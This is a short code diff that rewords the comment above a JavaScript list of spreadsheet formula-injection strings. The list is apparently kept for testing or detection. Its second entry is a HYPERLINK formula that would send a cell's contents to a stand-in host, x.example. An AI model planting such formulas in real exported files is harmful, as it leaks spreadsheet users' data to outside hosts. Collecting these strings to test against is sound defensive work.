@@ -1,4 +1,4 @@
-/** Texts that a spreadsheet would run, were they cells of their own: every beginning, behind everything that it overlooks. */
+/** Texts that a spreadsheet would run as formulas: each formula prefix, after each prefix that spreadsheets ignore. */
 const commands = [
   '=1+1',
   '=HYPERLINK("http://x.example/?"&A1,"open")',
